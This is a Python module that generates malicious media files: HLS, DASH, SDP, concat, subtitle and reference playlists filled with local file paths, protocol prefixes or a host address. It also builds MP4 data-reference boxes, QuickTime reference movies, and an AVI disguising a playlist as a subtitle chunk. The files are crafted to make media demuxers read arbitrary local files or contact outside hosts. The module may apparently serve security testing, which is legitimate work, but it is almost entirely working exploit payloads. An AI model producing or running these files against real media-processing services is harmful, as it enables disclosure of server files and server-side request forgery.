"""Files that point at other files and at hosts: playlists, lists, descriptions, and tricks in real containers."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from .elements import box, boxes

PLAYLIST = "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n"
TEXTS = {
    "playlist": PLAYLIST,
    "key": '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI="{}"\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n',
    "map": '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-MAP:URI="{}"\n#EXTINF:9,\n{}\n#EXT-X-ENDLIST\n',
    "concat": "ffconcat version 1.0\nfile '{}'\n",
    "session": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nu={}\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n",
    "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>{}</BaseURL></MPD>',
    "subtitles": "1\n00:00:00,000 --> 00:00:09,000\n<img src='{}'>\n",
    "script": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {}\n",
    "image list": "# {}\n%d.png\n",
    "redirect": "[Reference]\nRef1={}\n",
}
FORMS = ("{}", "file:{}", "file://{}", "concat:{}", "subfile,,start,0,end,99,,:{}", "crypto:{}", "cache:{}", "tee:{}")


def texts(file: str, address: str) -> Iterator[tuple[str, bytes]]:
    for name, text in TEXTS.items():
        for form in FORMS:
            yield f"{name} {form[:8]}", text.replace("{}", form.format(file)).encode()
        yield f"{name} host", text.replace("{}", address).encode()


def hidden(good: bytes, subtitled: bytes, file: str, address: str) -> Iterator[tuple[str, bytes]]:
    """`good` is an MP4 with its index in front, `subtitled` an AVI whose second stream becomes subtitles."""
    for target in (file, address):
        yield f"data reference {target[:4]}", with_reference(good, target)
        yield f"reference movie {target[:4]}", reference_movie(target)
        for form in ("{}", "file:{}", "concat:{}"):
            yield f"playlist as subtitles {target[:4]} {form}", in_subtitles(subtitled, form.format(target))


def with_reference(good: bytes, target: str) -> bytes:
    """The samples are said to lie in another file (`dref`)."""
    found = next(element for element in boxes(good) if element.kind == b"dref")
    entry = box(b"url ", bytes(4) + target.encode() + b"\0")
    content = good[found.content : found.content + 8] + entry
    room = found.end - found.start
    return good[: found.start] + box(b"dref", content)[:room].ljust(room, b"\0") + good[found.end :]


def reference_movie(target: str) -> bytes:
    reference = box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(target)) + target.encode())
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def in_subtitles(avi: bytes, target: str) -> bytes:
    """A playlist in a chunk of subtitles, for which the demuxer looks for another demuxer."""
    text = PLAYLIST.format(target).encode()
    chunk = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(text)) + text
    chunk += b"\0" * (len(chunk) % 2)
    renamed = avi.replace(b"auds", b"txts", 1)
    place = renamed.index(b"01wb", renamed.index(b"movi"))
    return renamed[:place] + b"01tx" + struct.pack("<I", len(chunk)) + chunk + renamed[place:].replace(b"01wb", b"01tx")
